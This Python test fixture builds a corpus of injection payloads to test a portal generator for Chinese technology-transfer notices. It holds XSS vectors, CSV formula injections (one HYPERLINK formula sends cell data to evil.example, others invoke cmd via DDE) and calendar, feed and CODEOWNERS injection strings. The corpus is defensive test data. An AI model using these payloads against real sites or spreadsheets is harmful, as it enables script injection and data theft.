"""A corpus of injection payloads and a portal whose every text field carries all of them.

Shared by tests/test_hostile_input.py (check, Markdown, feeds, calendars, open data) and
tests/browser/test_xss.py (every page in Chromium). The portal is the full fixture of
tests/conftest.py (every optional field used) with each free-text value replaced by the whole
corpus, rotated so that each field starts with a different payload; URL and e-mail fields take
the payloads their types let through. Markdown fields take the payloads `portal check` allows,
and the rest inside code spans, where the check lets tags stand as text.
"""

from __future__ import annotations

import hashlib
import json
from datetime import date
from pathlib import Path
from typing import Any

import yaml

from generator.catalog import Loaded
from generator.rules.content import markdown_problems
from generator.yaml_source import parse_record_bytes

# Every payload that fires calls alert(<its number>), so a dialog names the payload that got through.
PAYLOADS: list[str] = [
    # spreadsheet formulas first: the fields that start with them land at the start of CSV cells
    '=HYPERLINK("https://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    # tags and handlers
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '<iframe src="javascript:alert(5)"></iframe>',
    '<a href="javascript:alert(6)">点我</a>',
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>",
    "<input autofocus onfocus=alert(9)>",
    "<video><source onerror=alert(10)></video>",
    '<object data="data:text/html,<script>alert(11)</script>"></object>',
    "<embed src=javascript:alert(12)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(13)">',
    '<base href="javascript:alert(14)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "<scr<script>ipt>alert(16)</scr</script>ipt>",
    "<template><script>alert(17)</script></template>",
    '<form><button formaction="javascript:alert(18)">提交</button></form>',
    "<style>@import 'javascript:alert(19)';</style>",
    "<marquee onstart=alert(20)>",
    # breaking out of the context the value lands in
    '"><script>alert(21)</script>',
    "'><img src=x onerror=alert(22)>",
    '" onmouseover="alert(23)" x="',
    "' autofocus onfocus='alert(24)' x='",
    "</textarea><script>alert(25)</script>",
    "</title><script>alert(26)</script>",
    "</script><script>alert(27)</script>",
    "</style><img src=x onerror=alert(28)>",
    "</noscript><img src=x onerror=alert(29)>",
    "<!--<img src=x onerror=alert(30)>-->",
    "]]><script>alert(31)</script><![CDATA[",
    "<![CDATA[<script>alert(32)</script>]]>",
    '";alert(33);//',
    "';alert(34);//",
    '\\";alert(35);//',
    # URLs
    "javascript:alert(36)",
    "JaVaScRiPt:alert(37)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=",
    "vbscript:msgbox(39)",
    # template syntax: Jinja2, JavaScript, Angular
    "{{ 7*7 }}{{ config }}{% if true %}x{% endif %}",
    "${alert(40)}",
    "{{constructor.constructor('alert(41)')()}}",
    # entities and encodings that must stay as written
    "&lt;script&gt;alert(42)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(43)&#62;",
    "%3Cscript%3Ealert(44)%3C/script%3E",
    "\\u003cscript\\u003ealert(45)\\u003c/script\\u003e",
    # unicode tricks
    "＜script＞alert(46)＜/script＞",
    "\u202e<img src=x onerror=alert(47)>\u202c",
    "\u2028\u2029<script>alert(48)</script>",
    "\ufeff\u200b<svg onload=alert(49)>",
    "ſcript \u0130 \U0001f4a3 <ſcript>alert(50)</ſcript>",
    # other formats the values reach: a calendar, a feed, CODEOWNERS
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nDTSTART:20240101",
    "\n* @attacker\n/ @attacker",
    "</title></item><item><title>injected",
]

# A value of a URL field must be one http(s) URL without spaces (models/common.py): these pass.
URL_PAYLOADS: list[str] = [
    "https://www.gnas.example.cn/\"><script>alert(51)</script>'onmouseover='alert(52)'",
    "https://x.example.cn/?a=1&b=<svg/onload=alert(53)>&c=javascript:alert(58)",
]
# An e-mail address is letters, digits and ._%+- before the @ and a domain after it
# (models/common.py): no sign HTML or a link gives a meaning passes. These are the oddest that do
# (percent-escapes a careless decoder would turn into markup).
EMAIL_PAYLOADS: list[str] = [
    "x%22%3E%3Csvg%2Fonload%3Dalert%2854%29%3E@gnas.example.cn",
    "%27onmouseover%3D%27alert(55)@gnas.example.cn".replace("(", "%28").replace(")", "%29"),
    "a.b+c-d_e%25@gnas-1.example.cn",
]

SEPARATOR = " ⁂ "
TODAY = date(2024, 8, 1)
ATTACHMENT = b"%PDF-1.4\n% hostile portal attachment\n"


def markdown_refused(text: str) -> bool:
    """Whether `portal check` refuses this text in a Markdown field (raw HTML or a bad link)."""
    raw = ("body: " + json.dumps(text, ensure_ascii=False) + "\n").encode()
    loaded: Loaded[Any] = Loaded(record=None, source=parse_record_bytes(raw, "x.yml"), folders=())
    return any(True for _ in markdown_problems(text, loaded, ("body",)))


PHONE = "0797-8888888"


class Corpus:
    """Hands out the corpus, rotated one step further for every field that takes it."""

    def __init__(self) -> None:
        self.count = 0
        self.texts: list[str] = []  # every plain text value written, for round-trip checks
        self.urls = 0
        self.emails = 0

    def text(self) -> str:
        start = self.count % len(PAYLOADS)
        self.count += 1
        value = SEPARATOR.join(PAYLOADS[start:] + PAYLOADS[:start])
        self.texts.append(value)
        return value

    def markdown(self) -> str:
        pieces = [f"`{p}`" if markdown_refused(p) else p for p in PAYLOADS if "\r" not in p]
        return "\n\n".join(pieces) + "\n"

    def url(self) -> str:
        self.urls += 1
        return URL_PAYLOADS[(self.urls - 1) % len(URL_PAYLOADS)]

    def phone(self) -> str:
        """A telephone number (it must have digits), then the corpus."""
        value = f"{PHONE} {self.text()}"
        self.texts[-1] = value  # the value written, for the round-trip checks
        return value

    def email(self) -> str:
        self.emails += 1
        return EMAIL_PAYLOADS[(self.emails - 1) % len(EMAIL_PAYLOADS)]


def hostile_records(corpus: Corpus) -> dict[str, dict[str, Any]]:
    t = corpus.text
    sha = hashlib.sha256(ATTACHMENT).hexdigest()
    return {
        "policies/ganzhou-2023.yml": {
            "id": "ganzhou-2023",
            "title": t(),
            "issuer": t(),
            "document_number": t(),
            "issued_on": date(2023, 12, 19),
            "jurisdiction": t(),
            "source_url": corpus.url(),
            "notice_min_days": 15,
            "day_counting": "calendar",
            "long_term_use_min_years": 10,
            "team_ownership_share_min": 70,
            "reward_share_range": [60, 95],
            "lead_reward_share_min": None,
            "pilot_years": 3,
        },
        "institutions/gnas.yml": {
            "id": "gnas",
            "name": t(),
            "policy": "ganzhou-2023",
            "pilot_approved_on": date(2024, 2, 23),
            "contact": {"department": t(), "phone": corpus.phone(), "email": corpus.email(), "address": t()},
            "maintainers": ["@gnas-tto", t()],
            "website": corpus.url(),
            "notice_min_days": 20,
            "day_counting": "working",
        },
        "achievements/gnas/gnas-2024-001.yml": {
            "id": "gnas-2024-001",
            "institution": "gnas",
            "title": t(),
            "type": "patent",
            "rights": [
                {"kind": "invention_patent", "number": "ZL202110123456.7", "granted_on": date(2023, 5, 12)},
                {"kind": "other", "number": t()},
            ],
            "funding": "mixed",
            "team": [{"name": t(), "role": "lead", "share": 60}, {"name": t(), "share": 40}],
            "grant": {
                "mode": "long_term_use",
                "years": 10,
                "license": "exclusive",
                "starts_on": date(2024, 4, 1),
            },
            "incentive": "grant_first",
            "summary": corpus.markdown(),
            "history": [
                {"date": date(2024, 3, 1), "event": "applied", "note": t()},
                {"date": date(2024, 3, 4), "event": "noticed", "notice": "gnas-2024-n01"},
                {"date": date(2024, 4, 1), "event": "agreement_signed", "note": t()},
                {"date": date(2024, 6, 1), "event": "transformed", "mode": "license", "amount_yuan": 500000},
            ],
        },
        "achievements/gnas/gnas-2024-002.yml": {
            "id": "gnas-2024-002",
            "institution": "gnas",
            "title": t(),
            "type": "technical_secret",
            "funding": "commissioned",
            "team": [{"name": t(), "role": "lead", "share": 100}],
            "incentive": "transform_first",
            "summary": corpus.markdown(),
        },
        "notices/gnas/2024/gnas-2024-n01.yml": {
            "id": "gnas-2024-n01",
            "institution": "gnas",
            "kind": "long_term_use_grant",
            "title": t(),
            "period": {"start": date(2024, 3, 4), "end": date(2024, 4, 1), "end_time": "17:00"},
            "achievements": ["gnas-2024-001"],
            "objections": {
                "department": t(),
                "person": t(),
                "phone": corpus.phone(),
                "email": corpus.email(),
                "address": t(),
            },
            "body": corpus.markdown(),
            "attachments": [{"title": t(), "file": "attachments/gnas-2024-n01.pdf", "sha256": sha}],
            "amendments": [{"date": date(2024, 3, 5), "summary": t(), "restart": False}],
            "outcome": {"result": "no_objection", "date": date(2024, 4, 2), "note": t()},
        },
        "notices/gnas/2024/gnas-2024-n02.yml": {
            "id": "gnas-2024-n02",
            "institution": "gnas",
            "kind": "negotiated_price",
            "title": t(),
            "period": {"start": date(2024, 5, 6), "end": date(2024, 6, 3)},
            "achievements": ["gnas-2024-002"],
            "deal": {
                "mode": "transfer",
                "counterparty": t(),
                "counterparty_type": "state_owned",
                "price_yuan": 1200000,
                "appraised_yuan": 1150000,
                "pricing": "negotiated",
                "asset_evaluation": "done",
            },
            "objections": {"department": t(), "email": corpus.email()},
            "amendments": [{"date": date(2024, 5, 7), "summary": t()}],
            "outcome": {"result": "objections_resolved", "date": date(2024, 6, 5), "note": t()},
        },
        "notices/gnas/2024/gnas-2024-n03.yml": {
            "id": "gnas-2024-n03",
            "institution": "gnas",
            "kind": "reward",
            "title": t(),
            "period": {"start": date(2024, 7, 1), "end": date(2024, 7, 26)},
            "achievements": ["gnas-2024-002"],
            "reward": {
                "net_income_yuan": 1000000,
                "team_total_yuan": 800000,
                "recipients": [
                    {"name": t(), "yuan": 480000, "form": "cash"},
                    {"name": t(), "yuan": 320000, "form": "equity", "leader": True, "approval": t()},
                ],
            },
            "objections": {"department": t(), "phone": corpus.phone(), "email": corpus.email()},
            "outcome": {"result": "no_objection", "date": date(2024, 7, 29)},
        },
        # Open on TODAY, so the status script has a countdown to compute.
        "notices/gnas/2024/gnas-2024-n04.yml": {
            "id": "gnas-2024-n04",
            "institution": "gnas",
            "kind": "long_term_use_grant",
            "title": t(),
            "period": {"start": date(2024, 7, 29), "end": date(2024, 8, 23)},
            "achievements": ["gnas-2024-001"],
            "objections": {"department": t(), "phone": corpus.phone()},
        },
    }


def dump(record: dict[str, Any]) -> str:
    """YAML as a careful clerk writes it: every string quoted where YAML needs it."""
    return yaml.safe_dump(record, allow_unicode=True, sort_keys=False, width=1_000_000)


def write_hostile_portal(root: Path) -> Corpus:
    corpus = Corpus()
    for relative, record in hostile_records(corpus).items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dump(record), encoding="utf-8")
    attachment = root / "notices/gnas/attachments/gnas-2024-n01.pdf"
    attachment.parent.mkdir(parents=True, exist_ok=True)
    attachment.write_bytes(ATTACHMENT)
    return corpus


def write_clean_portal(root: Path) -> None:
    """The same records with harmless text: the theme's own scripts and markup, for comparison."""
    records = hostile_records(Corpus())
    for relative, record in records.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dump(_harmless(record)), encoding="utf-8")
    attachment = root / "notices/gnas/attachments/gnas-2024-n01.pdf"
    attachment.parent.mkdir(parents=True, exist_ok=True)
    attachment.write_bytes(ATTACHMENT)


def _harmless(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _harmless(item) if key not in KEEP else item for key, item in value.items()}
    if isinstance(value, list):
        return [_harmless(item) for item in value]
    if isinstance(value, str) and value.startswith(PHONE + " ") and SEPARATOR in value:
        return PHONE  # a telephone must stay a number
    if isinstance(value, str) and SEPARATOR in value:
        return "赣南科学院示例文字"
    if isinstance(value, str) and value in URL_PAYLOADS:
        return "https://www.gnas.example.cn/"
    if isinstance(value, str) and value in EMAIL_PAYLOADS:
        return "tto@gnas.example.cn"
    if isinstance(value, str) and "\n\n" in value:
        return "面向离子型稀土矿的**绿色提取**工艺，详见 [说明](https://www.gnas.example.cn/a)。\n\n`代码`\n\n\t代码块\n"
    return value


# Values the clean portal keeps as they are: ids, codes, dates and the like are not free text.
KEEP = {"id", "institution", "policy", "kind", "type", "mode", "event", "notice", "file", "sha256"}
